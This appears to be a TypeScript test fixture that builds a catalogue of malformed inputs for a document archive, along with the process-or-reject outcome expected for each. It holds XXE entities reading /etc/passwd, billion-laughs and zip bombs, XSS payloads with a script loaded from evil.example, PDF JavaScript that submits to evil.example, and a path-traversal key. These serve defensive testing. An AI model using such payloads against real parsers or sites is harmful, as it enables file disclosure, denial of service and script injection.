// The catalogue of malformed inputs (files and S3 keys), all generated here: no binary is
// committed. Each entry says what the archive must make of it; every entry must end as exactly
// one processed or rejected version (with a reason), without a retry, a crash or a hang.
import { randomBytes } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { Document, Packer, Paragraph } from 'docx';
import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
import { DOCX_SKELETON, makeZip } from '../support/zip';

export type Expectation = {
  status: 'processed' | 'rejected' | 'either';
  /** The rejection code, when rejected. */
  code?: string;
  /** Strings that must not reach the normalized text (scripts, handlers, expanded entities, file contents). */
  notInText?: string[];
  /** Strings the normalized text must keep. */
  inText?: string[];
  /** Upper bound on the normalized text's length (entity and zip expansion). */
  maxTextChars?: number;
};

export type Entry = {
  name: string;
  key: string;
  bytes: Uint8Array;
  contentType?: string;
  expect: Expectation;
};

export const MEETING =
  'President Emmanuel Macron met Chancellor Olaf Scholz at the Élysée Palace in Paris on 3 May 2023. The two leaders discussed energy security, trade and support for Ukraine, and agreed to meet again in Berlin before the end of the year.';
const PROSE = `Leaders meet in Paris\n\n${MEETING}\n\nThe foreign ministers will prepare a joint declaration for the next summit of the European Council.\n`;

const utf16be = (s: string) => {
  const le = Buffer.from(s, 'utf16le');
  for (let i = 0; i + 1 < le.length; i += 2) [le[i], le[i + 1]] = [le[i + 1], le[i]];
  return le;
};

const documentXml = (doctype: string, body: string) =>
  Buffer.from(
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>${doctype}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>${MEETING}</w:t></w:r></w:p><w:p><w:r><w:t>${body}</w:t></w:r></w:p></w:body></w:document>`,
  );

const billionLaughs = () => {
  const entities = ['<!ENTITY lol "lol">'];
  for (let i = 1; i <= 9; i++) entities.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`);
  return makeZip([
    ...DOCX_SKELETON,
    { name: 'word/document.xml', data: documentXml(`<!DOCTYPE lolz [${entities.join('')}]>`, 'Laughs: &lol9;') },
  ]);
};

const xxeDocx = () =>
  makeZip([
    ...DOCX_SKELETON,
    {
      name: 'word/document.xml',
      data: documentXml('<!DOCTYPE doc [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', 'Annex: &xxe;'),
    },
  ]);

const validDocx = async (paragraphs: string[]) =>
  Packer.toBuffer(
    new Document({
      title: 'Leaders meet in Paris',
      sections: [{ children: paragraphs.map((text) => new Paragraph({ text })) }],
    }),
  );

const pdfWith = async (lines: string[], js?: string): Promise<Uint8Array> => {
  const pdf = await PDFDocument.create();
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  const page = pdf.addPage([595, 842]);
  lines.forEach((line, i) => {
    page.drawText(line, { x: 50, y: 780 - i * 16, size: 11, font });
  });
  if (js) {
    const action = (code: string) =>
      pdf.context.register(pdf.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(code) }));
    pdf.catalog.set(PDFName.of('OpenAction'), action(js));
    const names = pdf.context.obj({ Names: [PDFString.of('init'), action(`${js} // from the Names tree`)] });
    pdf.catalog.set(PDFName.of('Names'), pdf.context.obj({ JavaScript: names }));
  }
  return pdf.save();
};

const PDF_LINES = [
  'Leaders meet in Paris',
  '',
  'President Emmanuel Macron met Chancellor Olaf Scholz in Paris on 3 May 2023.',
  'The two leaders discussed energy security, trade and support for Ukraine.',
];

const SCRIPT_MARKERS = [
  'SCRIPT_MARKER',
  'ONLOAD_MARKER',
  'HANDLER_MARKER',
  'JSURL_MARKER',
  'ONERROR_MARKER',
  'IFRAME_MARKER',
  'SVG_MARKER',
  'SVG_SCRIPT_MARKER',
  'STYLE_MARKER',
  'alert(',
  'javascript:',
];

const html = (body: string, head = '<title>Leaders meet in Paris</title>') =>
  `<!doctype html><html><head>${head}</head><body>${body}</body></html>`;

/** A short valid report, for the entries that test the key rather than the file. */
const keyEntry = (name: string, key: string): Entry => ({
  name: `key: ${name}`,
  key,
  bytes: Buffer.from(PROSE),
  expect: { status: 'processed', inText: ['Macron'] },
});

export async function buildCatalogue(): Promise<Entry[]> {
  const docx = await validDocx(['Leaders meet in Paris', MEETING]);
  const pdfOk = await pdfWith(PDF_LINES);
  const binary = randomBytes(4096);
  binary[10] = 0;
  binary[200] = 0;

  const files: Entry[] = [
    // Sizes and emptiness
    {
      name: 'zero-byte file',
      key: 'cat/empty.txt',
      bytes: new Uint8Array(0),
      expect: { status: 'rejected', code: 'empty' },
    },
    {
      name: 'whitespace only',
      key: 'cat/blank.txt',
      bytes: Buffer.from(' \n\t\r\n \u00a0\n'),
      expect: { status: 'rejected', code: 'empty' },
    },
    {
      name: 'over the size cap (11 MB), refused without reading it',
      key: 'cat/huge.txt',
      bytes: Buffer.alloc(11 * 1024 * 1024, 'meeting notes\n'),
      expect: { status: 'rejected', code: 'too-large' },
    },
    {
      name: 'a 2 MB document of one repeated word (wrapped lines)',
      key: 'cat/one-word.txt',
      bytes: Buffer.from(Array.from({ length: 3500 }, () => 'archive '.repeat(75)).join('\n')),
      expect: { status: 'either' },
    },
    {
      name: 'a 2 MB document of one repeated word (paragraphs without end punctuation)',
      key: 'cat/one-word-paragraphs.txt',
      bytes: Buffer.from(Array.from({ length: 3500 }, () => 'archive '.repeat(75)).join('\n\n')),
      expect: { status: 'either' },
    },
    {
      name: 'a 1.3 MB page of 50,000 short paragraphs',
      key: 'cat/many-paragraphs.html',
      bytes: Buffer.from(html('<p>Minister Smith spoke.</p>'.repeat(50_000))),
      expect: { status: 'either' },
    },
    {
      name: 'one line of 1 MB',
      key: 'cat/one-line.txt',
      bytes: Buffer.from('word '.repeat(210_000)),
      expect: { status: 'rejected', code: 'too-complex' },
    },
    {
      name: 'a 150,000-character word',
      key: 'cat/long-word.txt',
      bytes: Buffer.from(`${MEETING}\n\n${'x'.repeat(150_000)}\n`),
      expect: { status: 'either' },
    },
    // Encodings
    {
      name: 'UTF-8 with a BOM',
      key: 'cat/utf8-bom.txt',
      bytes: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(PROSE)]),
      expect: { status: 'processed', inText: ['Élysée'] },
    },
    {
      name: 'UTF-16 LE with a BOM',
      key: 'cat/utf16le-bom.txt',
      bytes: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(PROSE, 'utf16le')]),
      expect: { status: 'processed', inText: ['Élysée'] },
    },
    {
      name: 'UTF-16 BE with a BOM',
      key: 'cat/utf16be-bom.txt',
      bytes: Buffer.concat([Buffer.from([0xfe, 0xff]), utf16be(PROSE)]),
      expect: { status: 'processed', inText: ['Élysée'] },
    },
    {
      name: 'UTF-16 LE without a BOM',
      key: 'cat/utf16le-nobom.txt',
      bytes: Buffer.from(PROSE, 'utf16le'),
      expect: { status: 'processed', inText: ['Macron'] },
    },
    {
      name: 'Windows-1252 (accents and curly quotes)',
      key: 'cat/cp1252.txt',
      bytes: Buffer.concat([Buffer.from(PROSE.replace('discussed', 'discussed \u0093energy\u0094'), 'latin1')]),
      expect: { status: 'processed', inText: ['Élysée'] },
    },
    {
      name: 'ISO-8859-1 declared in an HTML meta tag',
      key: 'cat/latin1.html',
      bytes: Buffer.from(html(`<p>${MEETING}</p>`, '<meta charset="iso-8859-1"><title>Paris</title>'), 'latin1'),
      expect: { status: 'processed', inText: ['Élysée'] },
    },
    {
      name: 'mixed line endings (CRLF, CR, LF)',
      key: 'cat/line-endings.txt',
      bytes: Buffer.from(
        `Leaders meet\r\n\r\n${MEETING.replace('. ', '.\r')}\n\nThe ministers will prepare a declaration.\r\n`,
      ),
      expect: { status: 'processed', notInText: ['\r'], inText: ['Macron'] },
    },
    {
      name: 'NUL bytes inside text',
      key: 'cat/nul.txt',
      bytes: Buffer.from(`${MEETING}\u0000\u0000${MEETING}`),
      expect: { status: 'rejected', code: 'unsupported-format' },
    },
    {
      name: 'random binary',
      key: 'cat/random.txt',
      bytes: binary,
      expect: { status: 'rejected', code: 'unsupported-format' },
    },
    {
      name: 'a PNG named .txt',
      key: 'cat/image.txt',
      bytes: Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), randomBytes(1024)]),
      expect: { status: 'rejected' },
    },
    { name: 'gzip named .txt', key: 'cat/archive.txt', bytes: gzipSync(PROSE), expect: { status: 'rejected' } },
    {
      name: 'an RTF file named .txt',
      key: 'cat/rich.txt',
      bytes: Buffer.from(`{\\rtf1\\ansi\\pard ${MEETING}\\par}`),
      expect: { status: 'rejected' },
    },
    {
      name: 'ANSI escape sequences',
      key: 'cat/ansi.txt',
      bytes: Buffer.from(`\u001b[1mLeaders meet\u001b[0m\n\n\u001b[31m${MEETING}\u001b[0m\n`),
      expect: { status: 'processed', notInText: ['\u001b'] },
    },
    {
      name: 'bidi overrides and zero-width characters',
      key: 'cat/bidi.txt',
      bytes: Buffer.from(
        `Leaders meet\n\nPresident \u202eEmmanuel\u202c Macron\u200b met\u2066 Chancellor\u2069 Olaf Scholz in Paris on 3 May 2023.\n`,
      ),
      expect: { status: 'processed', notInText: ['\u202e', '\u200b', '\u2066'] },
    },
    {
      name: 'emoji and astral characters',
      key: 'cat/emoji.txt',
      bytes: Buffer.from(`🤝 Leaders meet 🇫🇷🇩🇪\n\n${MEETING} 🎉𝕏𝔸\n`),
      expect: { status: 'processed', inText: ['Macron'] },
    },
    {
      name: 'XML with an external entity (XXE) named .txt',
      key: 'cat/xxe.txt',
      bytes: Buffer.from(
        `<?xml version="1.0"?><!DOCTYPE m [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><m>${MEETING} &xxe;</m>`,
      ),
      expect: { status: 'either', notInText: ['root:x:0:0', 'root:'] },
    },
    // HTML
    {
      name: 'HTML nested 100,000 levels deep',
      key: 'cat/deep.html',
      bytes: Buffer.from(`${'<div>'.repeat(100_000)}${MEETING}${'</div>'.repeat(100_000)}`),
      expect: { status: 'rejected', code: 'too-complex' },
    },
    {
      name: 'HTML nested 600 levels deep',
      key: 'cat/deep-600.html',
      bytes: Buffer.from(html(`${'<div>'.repeat(600)}${MEETING}${'</div>'.repeat(600)}`)),
      expect: { status: 'either' },
    },
    {
      name: 'HTML with scripts, styles, event handlers and javascript: URLs',
      key: 'cat/scripts.html',
      bytes: Buffer.from(
        html(
          `<script>var a = "SCRIPT_MARKER"; alert(1)</script><style>.STYLE_MARKER { color: red }</style><article><h1>Leaders meet in Paris</h1><p onclick="steal('HANDLER_MARKER')">${MEETING}</p><p>They agreed on a joint plan. <a href="javascript:alert('JSURL_MARKER')">More</a><img src=x onerror="alert('ONERROR_MARKER')"></p><iframe srcdoc="<script>IFRAME_MARKER</script>"></iframe><svg onload="alert('SVG_MARKER')"><script>SVG_SCRIPT_MARKER</script></svg></article>`,
          '<title>Leaders meet</title><script src="https://evil.example/x.js"></script>',
        ).replace('<body>', `<body onload="alert('ONLOAD_MARKER')">`),
      ),
      expect: { status: 'processed', notInText: SCRIPT_MARKERS, inText: ['Macron'] },
    },
    {
      name: 'HTML that is only a <script>',
      key: 'cat/only-script.html',
      bytes: Buffer.from('<script>document.write("SCRIPT_MARKER")</script>'),
      expect: { status: 'rejected', code: 'empty', notInText: SCRIPT_MARKERS },
    },
    {
      name: 'HTML of comments only',
      key: 'cat/comments.html',
      bytes: Buffer.from(html('<!-- nothing here --><!-- SCRIPT_MARKER -->')),
      expect: { status: 'rejected', code: 'empty' },
    },
    {
      name: 'tag soup (unclosed and misnested tags)',
      key: 'cat/soup.html',
      bytes: Buffer.from(
        `<html><body><p>${MEETING}<div><b><i>unclosed<p>The ministers <td>will</b> prepare</i> a declaration.<table><tr>`,
      ),
      expect: { status: 'either', notInText: ['<b>', '<td>'] },
    },
    // Markdown
    {
      name: 'Markdown that is only front matter',
      key: 'cat/front-matter.md',
      bytes: Buffer.from('---\ntitle: Leaders meet\ndate: 2023-05-03\n---\n'),
      expect: { status: 'rejected', code: 'empty' },
    },
    {
      name: 'Markdown with raw <script>, handlers and javascript: links',
      key: 'cat/script.md',
      bytes: Buffer.from(
        `# Leaders meet\n\n${MEETING}\n\n<script>alert("SCRIPT_MARKER")</script>\n\n<div onclick="x('HANDLER_MARKER')">They agreed.</div>\n\n[More](javascript:alert('JSURL_MARKER'))\n`,
      ),
      expect: { status: 'processed', notInText: SCRIPT_MARKERS, inText: ['Macron'] },
    },
    {
      name: 'Markdown with unclosed front matter',
      key: 'cat/open-front-matter.md',
      bytes: Buffer.from(`---\ntitle: [unclosed\n\n${MEETING}\n`),
      expect: { status: 'either' },
    },
    // DOCX
    {
      name: 'a valid DOCX (control)',
      key: 'cat/valid.docx',
      bytes: docx,
      expect: { status: 'processed', inText: ['Macron'] },
    },
    {
      name: 'billion laughs: XML entity expansion inside word/document.xml',
      key: 'cat/billion-laughs.docx',
      bytes: billionLaughs(),
      expect: { status: 'either', notInText: ['lollollollollollollollollollol'], maxTextChars: 20_000 },
    },
    {
      name: 'DOCX with an external entity to /etc/passwd',
      key: 'cat/xxe.docx',
      bytes: xxeDocx(),
      expect: { status: 'either', notInText: ['root:x:0:0', 'root:'] },
    },
    {
      name: 'zip bomb that declares 4 GB',
      key: 'cat/bomb-declared.docx',
      bytes: makeZip([
        ...DOCX_SKELETON,
        { name: 'word/document.xml', data: documentXml('', 'x'), declaredSize: 0xfffffff0 },
      ]),
      expect: { status: 'rejected', code: 'too-complex' },
    },
    {
      name: 'zip bomb that lies about its size',
      key: 'cat/bomb-lying.docx',
      bytes: makeZip([
        ...DOCX_SKELETON,
        { name: 'word/document.xml', data: Buffer.alloc(4 * 1024 * 1024, 0x20), declaredSize: 1000 },
      ]),
      expect: { status: 'rejected', code: 'too-complex' },
    },
    {
      name: 'zip with 6,000 entries',
      key: 'cat/many-entries.docx',
      bytes: makeZip(
        Array.from({ length: 6000 }, (_, i) => ({ name: `word/part${i}.xml`, data: Buffer.from('<x/>') })),
      ),
      expect: { status: 'rejected', code: 'too-complex' },
    },
    {
      name: 'a zip that is not a DOCX',
      key: 'cat/not-docx.docx',
      bytes: makeZip([{ name: 'readme.txt', data: Buffer.from(PROSE) }]),
      expect: { status: 'rejected', code: 'unsupported-format' },
    },
    {
      name: 'truncated DOCX',
      key: 'cat/truncated.docx',
      bytes: docx.subarray(0, Math.floor(docx.length * 0.6)),
      expect: { status: 'rejected', code: 'corrupt' },
    },
    { name: 'DOCX bytes named .txt', key: 'cat/docx-as.txt', bytes: docx, expect: { status: 'either' } },
    // PDF
    {
      name: 'PDF with JavaScript (/OpenAction and a Names tree)',
      key: 'cat/javascript.pdf',
      bytes: await pdfWith(PDF_LINES, "app.alert('JS_MARKER'); this.submitForm('https://evil.example/JS_MARKER');"),
      expect: { status: 'processed', notInText: ['JS_MARKER', 'app.alert', 'submitForm'], inText: ['Macron'] },
    },
    {
      name: 'a valid PDF (control)',
      key: 'cat/valid.pdf',
      bytes: pdfOk,
      expect: { status: 'processed', inText: ['Macron'] },
    },
    {
      name: 'corrupt PDF',
      key: 'cat/corrupt.pdf',
      bytes: Buffer.from(
        `%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 9 0 R >>\nendobj\n${randomBytes(256).toString('hex')}\n%%EOF`,
      ),
      expect: { status: 'rejected' },
    },
    {
      name: 'truncated PDF',
      key: 'cat/truncated.pdf',
      bytes: pdfOk.subarray(0, Math.floor(pdfOk.length / 2)),
      expect: { status: 'either' },
    },
    {
      name: 'PDF without a text layer',
      key: 'cat/blank.pdf',
      bytes: await pdfWith([]),
      expect: { status: 'rejected', code: 'empty' },
    },
    {
      name: 'PDF bytes named .html',
      key: 'cat/pdf-as.html',
      bytes: pdfOk,
      contentType: 'text/html',
      expect: { status: 'either' },
    },
  ];

  const keys: Entry[] = [
    keyEntry('path traversal', '../../etc/passwd'),
    keyEntry('double slash', 'a//b.txt'),
    keyEntry('leading slash', '/leading-slash.txt'),
    keyEntry('dot segments', './dot/./segments/../x.txt'),
    keyEntry('an encoded slash, literally', '%2F.txt'),
    keyEntry('percent escapes, literally', 'reports/a%2Fb%20c%zz.txt'),
    keyEntry('Japanese', '日本語/報告.txt'),
    keyEntry('emoji', 'reports/🙂📄 minutes 🇫🇷.txt'),
    keyEntry('1000 characters in many segments', `long/${'segment-9/'.repeat(98)}${'y'.repeat(11)}.txt`),
    keyEntry('1000 characters in one segment', `long/${'x'.repeat(991)}.txt`),
    keyEntry('plus signs', 'reports/a+b=c & d+.txt'),
    keyEntry('percent signs', 'reports/100% sure (draft) 50%.txt'),
    keyEntry('runs of spaces', 'reports/  spaces  in   the key .txt'),
    keyEntry('tab and newline', 'reports/tab\tand\nnewline.txt'),
    keyEntry('query and fragment characters', 'reports/q?x=1&y=2#frag.txt'),
    keyEntry('backslashes', 'reports\\windows\\path.txt'),
    keyEntry('full-width letters', 'ＲＥＰＯＲＴ／会議.txt'),
    keyEntry('decomposed accents (NFD)', 'reports/Sommet a\u0300 Douchanbe\u0301.txt'),
    keyEntry('no extension', 'reports/minutes'),
    keyEntry('a dotfile', 'reports/.hidden'),
    keyEntry('upper-case extension', 'REPORTS/MINUTES.TXT'),
    keyEntry('XML-special characters', 'reports/<b>&amp;"quotes"\'.txt'),
  ];
  return [...files, ...keys];
}
